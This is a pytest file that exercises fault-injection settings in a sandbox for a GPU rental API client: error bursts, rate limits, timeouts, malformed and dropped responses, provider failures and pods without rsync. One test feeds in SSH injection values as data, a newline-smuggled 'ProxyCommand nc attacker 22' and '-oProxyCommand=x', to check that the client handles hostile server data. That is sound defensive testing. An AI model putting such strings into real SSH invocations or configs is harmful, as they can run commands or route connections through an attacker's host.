"""Every fault knob does what the client's tests rely on, and counts down."""

from __future__ import annotations

import json
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers.sandbox import RTX_4090, error, ok, rent

from gpuoutlet_jupyter.sandbox.testing import (
    SandboxAccount,
    SandboxProcess,
    SSHKeypair,
    wait_for_status,
)

BODY = RTX_4090


@pytest.fixture
def account(sandbox: SandboxProcess) -> Iterator[SandboxAccount]:
    yield sandbox.create_account(balance_cents=10_000)
    sandbox.set_faults({})


@pytest.mark.parametrize("status", [503, 500, 502])
def test_error_burst_fails_that_many_requests_then_recovers(
    sandbox: SandboxProcess, account: SandboxAccount, status: int
) -> None:
    sandbox.set_faults({"errorBurst": {"status": status, "count": 2}})
    with sandbox.client(account.sid) as http:
        for remaining in (1, 0):
            error(http.post("/v1/rentals", json=BODY), status, "internal_error")
            assert sandbox.faults()["errorBurst"]["count"] == remaining
        # The failed creates never reached the API: nothing was made.
        assert ok(http.get("/v1/rentals"))["rentals"] == []
        ok(http.get("/v1/billing/balance"))
    assert sandbox.ledger(account.account_id)["reservedCents"] == 0


def test_rate_limit_burst_is_429_with_retry_after(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"rateLimitBurst": {"count": 1, "retryAfterSeconds": 7}})
    with sandbox.client(account.sid) as http:
        limited = http.get("/v1/rentals")
        assert limited.headers["Retry-After"] == "7"
        assert error(limited, 429, "rate_limited")["message"] == (
            "Too many requests. Retry after 7 seconds."
        )
        ok(http.get("/v1/rentals"))


def test_slow_responses_trip_a_client_timeout_once(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"slowResponseSeconds": 2.0, "slowCount": 1})
    with sandbox.client(account.sid, timeout=0.3) as http:
        with pytest.raises(httpx.ReadTimeout):
            http.get("/v1/billing/balance")
        ok(http.get("/v1/billing/balance"))


def test_malformed_body_is_a_200_that_does_not_parse_but_the_create_happened(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"malformedCount": 1})
    with sandbox.client(account.sid) as http:
        response = http.post("/v1/rentals", json=BODY)
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/json"
        with pytest.raises(json.JSONDecodeError):
            json.loads(response.content)
        assert len(ok(http.get("/v1/rentals"))["rentals"]) == 1


def test_a_dropped_create_answer_leaves_a_rental_the_client_never_heard_of(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"dropCreateAnswerCount": 1})
    with sandbox.client(account.sid) as http:
        ok(http.get("/v1/billing/balance"))  # only creates are dropped
        with pytest.raises(httpx.RemoteProtocolError, match="without sending"):
            http.post("/v1/rentals", json={**BODY, "name": "alice/lost-1"})
        assert sandbox.faults()["dropCreateAnswerCount"] == 0
        (rental,) = ok(http.get("/v1/rentals"))["rentals"]
        assert rental["name"] == "alice/lost-1"  # committed: it exists and is billed
        assert ok(http.get("/v1/billing/balance"))["reservedCents"] == 65
        answered = rent(http)  # the next create is answered
        ok(http.post(f"/v1/rentals/{rental['id']}/stop"))
        ok(http.post(f"/v1/rentals/{answered['id']}/stop"))
    assert "dropped the answer to a create" in sandbox.log()


def test_hostile_host_and_port_are_served_as_is(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    hostile = "evil\nProxyCommand nc attacker 22"
    sandbox.set_faults({"hostileHost": hostile, "hostilePort": 70000})
    with sandbox.client(account.sid) as http:
        running = wait_for_status(http, rent(http)["id"], {"running", "failed"})
        assert (running["status"], running["host"], running["port"]) == ("running", hostile, 70000)
        sandbox.set_faults({"hostileHost": "-oProxyCommand=x", "hostilePort": 0})
        second = wait_for_status(http, rent(http)["id"], {"running", "failed"})
        assert (second["host"], second["port"]) == ("-oProxyCommand=x", 0)


def test_provider_failure_rate_fails_boots_and_refunds(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"providerFailureRate": 1.0})
    with sandbox.client(account.sid) as http:
        failed = wait_for_status(http, rent(http)["id"], {"running", "failed"})
    assert failed["status"] == "failed"
    assert failed["error"].startswith("provider: host vast-us-east-")
    assert "did not boot" in failed["error"]
    assert sandbox.ledger(account.account_id)["availableCents"] == 10_000


def test_never_ready_keeps_rentals_provisioning_until_lifted(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"neverReady": True})
    with sandbox.client(account.sid) as http:
        rental = rent(http)
        sandbox.tick()
        time.sleep(2)  # far past the test sandbox's provision delay
        sandbox.tick()
        assert ok(http.get(f"/v1/rentals/{rental['id']}"))["status"] == "provisioning"
        sandbox.set_faults({})
        assert wait_for_status(http, rental["id"], {"running"})["port"] is not None
        ok(http.post(f"/v1/rentals/{rental['id']}/stop"))


def test_omit_stopped_at(sandbox: SandboxProcess, account: SandboxAccount) -> None:
    with sandbox.client(account.sid) as http:
        rental = rent(http)
        ok(http.post(f"/v1/rentals/{rental['id']}/stop"))
        sandbox.set_faults({"omitStoppedAt": True})
        assert ok(http.get(f"/v1/rentals/{rental['id']}"))["stoppedAt"] is None
        assert ok(http.get("/v1/rentals"))["rentals"][0]["stoppedAt"] is None
        sandbox.set_faults({})
        assert ok(http.get(f"/v1/rentals/{rental['id']}"))["stoppedAt"] is not None


def test_provider_latency_holds_the_create(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"providerLatencySeconds": 1.0})
    with sandbox.client(account.sid, timeout=0.2) as http:
        with pytest.raises(httpx.ReadTimeout):
            http.post("/v1/rentals", json=BODY)
    # The create still completes server-side once the provider answers.
    with sandbox.client(account.sid) as http:
        deadline = time.monotonic() + 10
        while not ok(http.get("/v1/rentals"))["rentals"]:
            assert time.monotonic() < deadline, "the slow create never landed"
            time.sleep(0.25)


def test_faults_are_validated(sandbox: SandboxProcess, account: SandboxAccount) -> None:
    bad: Any
    for bad in (
        {"providerFailureRate": 1.5},
        {"errorBurst": {"status": 404, "count": 1}},
        {"dropCreateAnswerCount": -1},
        {"typo": True},
    ):
        error(sandbox.admin.put("/sandbox/faults", json=bad), 400, "validation_failed")
    assert sandbox.faults()["providerFailureRate"] == 0.0


@pytest.mark.skipif(shutil.which("ssh") is None, reason="needs the OpenSSH client")
def test_pods_can_lack_a_command(
    sandbox: SandboxProcess, ssh_keypair: SSHKeypair, tmp_path: Path
) -> None:
    """A pod booted while podHiddenCommands is set has no such command (a machine without
    rsync, so a client must fall back to tar)."""
    account = sandbox.create_account(balance_cents=10_000, authorized_keys=ssh_keypair.public_key)
    sandbox.set_faults({"podHiddenCommands": ["rsync"]})
    try:
        with sandbox.client(account.sid) as http:
            bare = wait_for_status(http, rent(http)["id"], {"running"})
            sandbox.set_faults({})
            full = wait_for_status(http, rent(http)["id"], {"running"})
            script = "for c in rsync tar python3 sh nvidia-smi; do command -v $c >/dev/null && echo $c; done"
            seen = {}
            for rental in (bare, full):
                result = subprocess.run(
                    [
                        "ssh",
                        "-F",
                        "/dev/null",
                        "-o",
                        "BatchMode=yes",
                        "-o",
                        "StrictHostKeyChecking=accept-new",
                        "-o",
                        f"UserKnownHostsFile={tmp_path / 'kh'}",
                        "-o",
                        "IdentitiesOnly=yes",
                        "-i",
                        str(ssh_keypair.private_key),
                        "-p",
                        str(rental["port"]),
                        "root@127.0.0.1",
                        script,
                    ],
                    capture_output=True,
                    text=True,
                    timeout=60,
                    stdin=subprocess.DEVNULL,
                )
                seen[rental["id"]] = set(result.stdout.split())
                ok(http.post(f"/v1/rentals/{rental['id']}/stop"))
    finally:
        sandbox.set_faults({})
    assert "rsync" not in seen[bare["id"]]
    assert {"tar", "python3", "sh"} <= seen[bare["id"]]
    if shutil.which("rsync"):
        assert "rsync" in seen[full["id"]]
